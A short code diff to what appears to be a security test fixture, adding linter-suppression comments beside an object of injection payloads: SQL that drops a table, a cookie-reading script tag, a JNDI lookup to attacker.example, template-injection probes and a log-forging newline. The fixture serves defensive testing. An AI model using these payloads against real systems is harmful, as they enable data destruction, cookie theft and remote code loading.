@@ -59,7 +59,9 @@ const SERVICES = [
 const INJECTION = {
   sql: "x'; DROP TABLE audit_events; --",
   html: '<script>alert(document.cookie)</script>',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: an attacker's payload, literal on purpose
   jndi: '${jndi:ldap://attacker.example/a}',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: an attacker's payload, literal on purpose
   template: '{{7*7}} ${7*7} #{7*7}',
   esQuery: '{"query":{"match_all":{}}} OR 1=1',
   newline: 'line one\r\nforged: log line',
